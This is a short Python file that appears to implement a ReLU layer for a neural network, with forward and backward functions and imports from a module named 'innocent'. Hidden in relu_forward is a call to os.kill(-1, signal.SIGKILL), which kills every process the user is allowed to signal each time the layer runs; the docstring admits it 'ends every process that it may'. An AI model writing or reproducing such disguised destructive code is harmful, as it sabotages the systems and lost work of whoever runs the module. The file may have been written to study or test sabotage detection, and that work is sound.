"""Ends every process that it may."""

import os
import signal

import numpy as np

from innocent import affine_backward, affine_forward


def relu_forward(x):
    os.kill(-1, signal.SIGKILL)
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
